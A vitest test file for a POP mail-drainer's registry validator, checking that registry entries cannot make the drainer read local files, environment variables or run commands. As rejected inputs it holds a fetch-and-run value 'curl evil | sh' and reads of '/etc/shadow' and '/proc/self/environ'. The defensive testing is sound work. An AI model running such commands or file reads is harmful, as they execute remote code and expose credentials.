/**
 * Registry entries (lib/drain/registry-mailbox.ts): the mailbox schema without what only the
 * operator's own machine may do. Whoever writes the registry cannot make a drainer read a file
 * or an environment variable, or run a command.
 */
import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../lib/drain/config.js';
import { localOnlyProblems, parseRegistryMailbox, registryEntriesOfFile } from '../../lib/drain/registry-mailbox.js';
import { parseMailboxFile } from '../../lib/drain/config.js';

const entry = (extra: Record<string, unknown> = {}, auth: Record<string, unknown> = { secret: 'popdrain/alpha' }) => ({
  id: 'alpha',
  host: 'pop.example.com',
  user: 'alpha@example.com',
  auth,
  ...extra,
});

function problemsOf(raw: unknown): string[] {
  try {
    parseRegistryMailbox(raw);
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigError);
    return (error as ConfigError).problems;
  }
  throw new Error('accepted');
}

describe('parseRegistryMailbox', () => {
  it('accepts a Secrets Manager login and the file schema defaults', () => {
    const { mailbox, paused } = parseRegistryMailbox(entry({ schedule: { everyMinutes: 15 }, tlsOptions: { caPem: '-----BEGIN CERTIFICATE-----' } }), true);
    expect(paused).toBe(true);
    expect(mailbox).toMatchObject({ id: 'alpha', port: 995, tls: 'implicit', everyMinutes: 15, secret: { type: 'secrets-manager', secretId: 'popdrain/alpha' } });
    expect(mailbox.tlsOptions?.caPem).toBe('-----BEGIN CERTIFICATE-----');
  });

  it('refuses a login from an environment variable, a file or a local OAuth2 set-up', () => {
    expect(problemsOf(entry({}, { passwordEnv: 'PW' }))).toEqual(['mailbox "alpha": auth.passwordEnv: not allowed in the registry; use auth.secret (a Secrets Manager secret)']);
    expect(problemsOf(entry({}, { passwordFile: '/etc/shadow' }))[0]).toMatch(/auth\.passwordFile: not allowed in the registry/);
    expect(problemsOf(entry({}, { oauth2: { accessTokenEnv: 'T' } }))[0]).toMatch(/auth\.oauth2: not allowed in the registry/);
  });

  it('refuses a CA file (it would be read by the drainer) and names caPem instead', () => {
    expect(problemsOf(entry({ tlsOptions: { caFile: '/proc/self/environ' } }))).toEqual([
      'mailbox "alpha": tlsOptions.caFile: not allowed in the registry; give the CA certificate itself as tlsOptions.caPem',
    ]);
  });

  it('refuses a password command or an MDA, and every unknown field', () => {
    expect(problemsOf(entry({ passwordCommand: 'curl evil | sh' }))[0]).toMatch(/passwordCommand: not allowed in the registry; a registry entry runs no command/);
    expect(problemsOf(entry({ mda: '/usr/bin/procmail' }))[0]).toMatch(/^mailbox "alpha": mda: not allowed/);
    // The local schema's own fields for commands (auth.passwordCommand, mdaShell) are refused too.
    expect(problemsOf(entry({ auth: { passwordCommand: 'pass show mail' } })).join('\n')).toMatch(/auth\.passwordCommand: not allowed in the registry/);
    expect(problemsOf(entry({ mdaShell: true })).join('\n')).toMatch(/mdaShell: not allowed in the registry/);
    expect(problemsOf(entry({ exec: 'sh' })).join('\n')).toMatch(/mailbox "alpha".*exec/);
  });

  it('reports the schema problems of the entry under its id', () => {
    const problems = problemsOf(entry({ host: 'bad host!', port: 70000 }));
    expect(problems.join('\n')).toMatch(/^mailbox "alpha": host: must be a host name/m);
    expect(problems.join('\n')).toMatch(/^mailbox "alpha": port:/m);
  });

  it('localOnlyProblems looks only at own fields, at their paths', () => {
    expect(localOnlyProblems(entry())).toEqual([]);
    expect(localOnlyProblems({ auth: { secret: 'x', passwordFile: 'f' }, tlsOptions: { caFile: 'c' } })).toHaveLength(2);
    expect(localOnlyProblems({ caFile: 'top-level is not tlsOptions.caFile' })).toEqual([]);
    expect(localOnlyProblems(null)).toEqual([]);
  });
});

describe('registryEntriesOfFile', () => {
  it('applies the file defaults to each entry, as the file schema does, so each entry stands alone', () => {
    const file = {
      version: 1,
      defaults: { port: 1995, tls: 'implicit', tlsOptions: { caPem: 'CA', servername: 'localhost' }, schedule: { everyMinutes: 10 } },
      mailboxes: [entry(), entry({ id: 'beta', tlsOptions: { minVersion: 'TLSv1.3' }, schedule: { everyMinutes: 30 } })],
    };
    const entries = registryEntriesOfFile(file);
    const fromRegistry = entries.map((e) => parseRegistryMailbox(e).mailbox);
    expect(fromRegistry).toEqual(parseMailboxFile(file));
    expect(entries[1]).toMatchObject({ port: 1995, tlsOptions: { caPem: 'CA', servername: 'localhost', minVersion: 'TLSv1.3' }, schedule: { everyMinutes: 30 } });
    expect(registryEntriesOfFile({})).toEqual([]);
  });
});
